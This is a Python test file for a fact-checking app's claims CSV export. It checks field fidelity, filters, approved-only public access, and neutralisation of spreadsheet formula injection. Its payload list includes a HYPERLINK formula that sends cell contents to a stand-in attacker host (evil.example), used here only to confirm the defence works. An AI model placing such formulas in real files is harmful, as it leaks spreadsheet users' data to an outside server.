"""Claims as CSV: a spreadsheet (or Python's csv module) reads back exactly what the claims say, no cell runs as
a formula, and the export shows what the list would: its filters, and approved claims only to the public."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotations.exports import table
from annotations.models import Claim, Source
from tests.exports.support import SITE_URL, content
from tests.factories import make_article, make_claim, make_source

EXPORT = "/api/v1/export/claims.csv"
COLUMNS = [
    "id", "article_id", "article_title", "article_url", "start", "end", "exact", "prefix", "suffix",
    "anchor_state", "verdict", "speaker", "summary", "note", "review_state", "created_by", "created_at",
    "updated_at", "approved_at", "version", "source_count", "sources", "public_url", "same_as",
]  # fmt: skip


def read_csv(response) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows, as a spreadsheet would read them (UTF-8 with a byte-order mark)."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    text = content(response).decode("utf-8")
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def sources_line(claim: Claim) -> str:
    lines = []
    for source in claim.sources.order_by("pk"):
        name = source.title or source.url
        if source.publisher:
            name += f" ({source.publisher})"
        lines.append(f"{source.stance}: {name} <{source.url}>")
    return "\n".join(lines)


def test_the_csv_reads_back_as_the_claims_field_for_field(api, newsroom):
    api.force_authenticate(newsroom.author)
    header, rows = read_csv(api.get(EXPORT))
    assert header == COLUMNS
    by_id = {int(row["id"]): row for row in rows}
    assert sorted(by_id) == sorted(claim.pk for claim in newsroom.claims.values())
    assert [int(row["id"]) for row in rows] == sorted(by_id)  # in id order
    for claim in newsroom.claims.values():
        row = by_id[claim.pk]
        assert {name: row[name] for name in ("exact", "prefix", "suffix", "verdict", "speaker", "summary", "note")} == {
            "exact": claim.exact,
            "prefix": claim.prefix,
            "suffix": claim.suffix,
            "verdict": claim.verdict,
            "speaker": claim.speaker,
            "summary": claim.summary,
            "note": claim.note,
        }
        assert (row["article_id"], row["start"], row["end"], row["version"]) == tuple(
            str(value) for value in (claim.article_id, claim.start, claim.end, claim.version)
        )
        assert (row["anchor_state"], row["review_state"], row["created_by"]) == (
            claim.anchor_state,
            claim.review_state,
            claim.created_by.username,
        )
        assert row["source_count"] == str(claim.sources.count())
        assert row["sources"] == sources_line(claim)
        assert row["article_url"] == (claim.article.source_url or f"{SITE_URL}/articles/{claim.article.slug}/")
        approved = claim.review_state == Claim.ReviewState.APPROVED
        assert row["public_url"] == (f"{SITE_URL}/claims/{claim.pk}/" if approved else "")
        assert row["same_as"] == ""  # none of these restates another (tests/api/test_also_appears.py)
        assert bool(row["approved_at"]) == bool(claim.approved_at)
        assert row["created_at"].endswith("Z")


def test_a_note_with_newlines_commas_and_quotes_survives(api, newsroom):
    api.force_authenticate(newsroom.author)
    claim = newsroom.claims["verified_full"]
    assert "\n" in claim.note
    assert "," in claim.note
    assert '"' in claim.note
    (row,) = [row for row in read_csv(api.get(EXPORT))[1] if row["id"] == str(claim.pk)]
    assert row["note"] == claim.note
    assert row["sources"].count("\n") == 1  # two sources, one per line


FORMULA_STARTS = "=+-@\t\r"


@given(st.text(max_size=30))
def test_safe_output_never_starts_a_formula(value):
    assert not table.safe(value).startswith(tuple(FORMULA_STARTS))


@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=30))
def test_a_formula_gets_exactly_one_apostrophe_and_nothing_else_changes(first, rest):
    assert table.safe(first + rest) == "'" + first + rest


@given(st.text(max_size=30).filter(lambda value: not value.startswith(tuple(FORMULA_STARTS))))
def test_any_other_cell_is_left_as_it_is(value):
    assert table.safe(value) == value


PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
FORMULA_BODY = '<p>Cells: =HYPERLINK("https://evil.example/?leak="&amp;A1,"Click") and +1 then -2+3 or @SUM(1).</p>'


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_in_any_text_come_out_neutralised(api, db, payload):
    article = make_article(title=payload.strip() + " report", body_html=FORMULA_BODY)
    quote = payload if payload in article.body_text else "Cells"
    claim = make_claim(
        article, exact=quote, speaker=payload, note=payload, summary=payload, review_state="approved", approved_at=None
    )
    make_source(claim, title=payload, url="https://example.org/source")
    (row,) = read_csv(api.get(EXPORT))[1]
    for column in ("speaker", "note", "summary"):
        assert row[column] == "'" + payload
    if quote == payload:
        assert row["exact"] == "'" + payload
    # The sources cell starts with the stance; a title's whitespace is tidied to single spaces.
    assert row["sources"] == f"contradicts: {' '.join(payload.split())} <https://example.org/source>"
    for column, cell in row.items():
        assert not cell.startswith(tuple(FORMULA_STARTS)), (column, cell)


def test_every_payload_is_also_tried_as_a_quote(db):
    """Guards the test above: the article's text holds the payloads that can be quoted."""
    text = make_article(body_html=FORMULA_BODY).body_text
    assert [payload for payload in PAYLOADS if payload in text] == PAYLOADS[:4]


def test_a_title_starting_with_a_formula_in_the_first_source_is_neutralised(api, db):
    claim = make_claim(review_state="approved")
    make_source(claim, title="=1+1", stance=Source.Stance.SUPPORTS)
    (row,) = read_csv(api.get(EXPORT))[1]
    assert row["sources"].startswith("supports: =1+1")  # harmless: the cell starts with the stance
    assert not row["article_title"].startswith(tuple(FORMULA_STARTS))


def test_filters_narrow_the_rows(api, newsroom):
    api.force_authenticate(newsroom.author)
    _, disputed = read_csv(api.get(EXPORT, {"verdict": "disputed"}))
    assert {row["id"] for row in disputed} == {
        str(claim.pk) for claim in newsroom.claims.values() if claim.verdict == "disputed"
    }
    _, council = read_csv(api.get(EXPORT, {"article": newsroom.council.pk}))
    assert {row["id"] for row in council} == {
        str(claim.pk) for claim in newsroom.claims.values() if claim.article_id == newsroom.council.pk
    }
    _, both = read_csv(api.get(EXPORT, {"article": newsroom.council.pk, "verdict": "disputed"}))
    assert {row["id"] for row in both} == {str(newsroom.claims["orphan"].pk)}
    _, nothing = read_csv(api.get(EXPORT, {"speaker": "nobody said this"}))
    assert nothing == []


def test_a_bad_filter_is_a_400(api, newsroom):
    response = api.get(EXPORT, {"verdict": "true"})
    assert response.status_code == 400
    assert "verdict" in response.json()


def test_anonymous_readers_get_approved_claims_only(api, newsroom):
    header, rows = read_csv(api.get(EXPORT))
    assert header == COLUMNS
    assert sorted(int(row["id"]) for row in rows) == sorted(claim.pk for claim in newsroom.approved)
    assert {row["review_state"] for row in rows} == {"approved"}
    _, drafts = read_csv(api.get(EXPORT, {"review_state": "draft"}))
    assert drafts == []


def test_an_empty_export_is_just_the_header(api, db):
    header, rows = read_csv(api.get(EXPORT))
    assert (header, rows) == (COLUMNS, [])
